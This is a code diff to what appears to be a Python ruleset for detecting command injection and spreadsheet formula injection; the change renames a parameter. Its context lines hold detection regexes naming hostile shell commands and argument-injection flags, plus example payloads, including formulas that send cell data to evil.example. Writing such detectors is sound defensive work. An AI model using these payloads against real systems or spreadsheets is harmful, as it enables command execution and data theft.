@@ -54,10 +54,10 @@ def _cmd(
     pattern: str,
     source: str,
     prior: float = MEDIUM,
-    opens: tuple[str, ...] = (),
+    prefilter: tuple[str, ...] = (),
     examples: tuple[str, ...] = (),
 ) -> Indicator:
-    return Indicator("shell." + name, "cmd_injection", pattern, source, prior, opens, examples)
+    return Indicator("shell." + name, "cmd_injection", pattern, source, prior, prefilter, examples)
 
 
 # fmt: off
@@ -171,9 +171,9 @@ SHELL = (
     _cmd("exact_command", r"^[\s'\"]*(?:whoami|ifconfig|ipconfig(?:\s*/all)?|netstat(?:\s+-\w+)?|systeminfo|tasklist|uname(?:\s+-\w+)?|ls\s+-\w+(?:\s+\S+)?|ls\s+[/.~]\S*|id\s+-\w|ps\s+-?(?:aux|ef)\w*|cat\s+\S+|ping6?\s+(?:-\w\s*\d*\s+)*[\w.-]+\.[\w.-]+|net\s+user.*|printenv|lsb_release\s+-a|route\s+print|arp\s+-a|curl\s+\S+|wget\s+\S+|nslookup\s+\S+|dir\s+[/c].*|rm\s+-rf?\s.*|chmod\s+[+\d]\S*\s.*|cd\s+[/.]\S*|echo\s+[$\d\"'].*|touch\s+/\S+|sudo\s+\S.*|kill\s+-9.*|shutdown\s+[-/]\w.*|reboot|bash\s+-i.*|crontab\s+-\w|history|id;|w;|df\s+-h|last\s+-\w.*|env\s*\|.*|type\s+\S+\.\w+|find\s+/\S*.*|tail\s+-\S+.*|head\s+-\S+.*|grep\s+-\w+\s.*|hostname\s+-\w|su\s+-.*)[\s'\";|&#]*$", _OWASP, 0.9, examples=('uname -a',)),
     _cmd("perl_open", r"\|\s*$|\bopen\s*\(\s*\w+\s*,\s*['\"]\||\bqx\s*[({/]|%x\s*[({\[]", _PATT, WEAK, examples=('||',)),
     _cmd("argument_exec", r"^[\s'\"]*(?:--(?:checkpoint-action|use-compress-program|to-command|rsh|rsh-command|rmt-command|upload-pack|receive-pack|open-files-in-pager|ext-diff|info-script|new-volume-script|post-file|body-file|use-askpass|load-extension|pager|exec|exec-path|eval|preprocessor|pre|diff-program|compress-prog)(?:=|\s)\s*\S|--checkpoint=\d+\s*$|-o\s?(?:proxycommand|localcommand|permitlocalcommand|queuedirectory)\b|-c\s+(?:core\.(?:sshcommand|pager|editor|fsmonitor|hookspath)|alias\.\w+|protocol\.ext\.allow)\s*=|--(?:output|log-?file|directory-prefix|output-document|config)=(?:/|https?:|\.\.)|-o\s*/(?:etc|var|tmp|usr|home|root|srv|opt|dev)/|-e\s+(?:sh|bash|perl|python\d?|ruby)\s)", "CWE-88; GTFOBins; tar, git, ssh, curl and rsync manuals", CERTAIN,
-          opens=(r"[=\x0b \"']--(?:checkpoint|use-compress|to-command|rsh|rmt-command|upload-pack|receive-pack|open-files|ext-diff|info-script|new-volume|post-file|body-file|use-askpass|load-extension|pager|exec|eval|preprocessor|pre=|diff-program|compress-prog|output|log|directory-prefix|config=)", r"-o ?(?:proxyc|localc|permitl|queued)", r"-c (?:core\.|alias\.|protocol\.)", r"[=\x0b\"]-o ?/", r"[=\x0b\"]-e (?:sh|bash|perl|python|ruby)"),
+          prefilter=(r"[=\x0b \"']--(?:checkpoint|use-compress|to-command|rsh|rmt-command|upload-pack|receive-pack|open-files|ext-diff|info-script|new-volume|post-file|body-file|use-askpass|load-extension|pager|exec|eval|preprocessor|pre=|diff-program|compress-prog|output|log|directory-prefix|config=)", r"-o ?(?:proxyc|localc|permitl|queued)", r"-c (?:core\.|alias\.|protocol\.)", r"[=\x0b\"]-o ?/", r"[=\x0b\"]-e (?:sh|bash|perl|python|ruby)"),
           examples=("--checkpoint-action=exec=sh x.sh", "--use-compress-program=id", "-oProxyCommand=id", "-c core.sshCommand=id", "--output=/var/www/x.php")),
     Indicator("shell.formula", "csv_injection", r"^[\s'\"]*[=+@-][^\r\n]{0,60}(?:\b\w{1,40}\|\s*['\"]?|\b(?:hyperlink|webservice|importxml|importdata|importhtml|importrange|importfeed|filterxml|dde|dderequest|ddeinitialize|rtd|call|register\.id)\s*\()", "OWASP: CSV Injection", CERTAIN,
-          opens=(r"[=+@\"-](?:hyperlink|webservice|import(?:xml|data|html|range|feed)|filterxml|dde|rtd|call|register\.id) ?\(", r"\w\|'"),
+          prefilter=(r"[=+@\"-](?:hyperlink|webservice|import(?:xml|data|html|range|feed)|filterxml|dde|rtd|call|register\.id) ?\(", r"\w\|'"),
           examples=("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+cmd|' /C notepad'!A0", "=WEBSERVICE(\"http://evil.example/\"&A1)")),
 )
